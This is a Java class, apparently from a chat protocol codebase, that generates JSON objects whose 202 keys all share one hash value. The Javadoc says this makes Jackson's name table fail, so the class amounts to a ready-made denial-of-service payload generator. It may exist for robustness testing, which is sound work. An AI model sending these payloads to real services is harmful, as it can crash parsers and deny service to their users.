package squall.chat.protocol.classic;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * JSON objects of names that Jackson's table of names takes for one another until it throws, for
 * everyone: their hashes are equal by {@code 33 * hash + next}.
 */
public final class CollidingNames {
    private static final int PARTS = 5;
    private static final int NAMES = 202;

    private final Random random = new Random(1);
    private final List<String> names = new ArrayList<>(names(PARTS));

    /** Another object of the most that fit into a datagram. */
    public String next() {
        Collections.shuffle(names, random);
        return names.subList(0, NAMES).stream().map(name -> '"' + name + "\":0")
                .collect(Collectors.joining(",", "{", "}"));
    }

    private static List<String> names(int parts) {
        return parts == 0 ? List.of("")
                : names(parts - 1).stream()
                        .flatMap(name -> Stream.of("BB", "C!", "Ac").map(name::concat)).toList();
    }
}
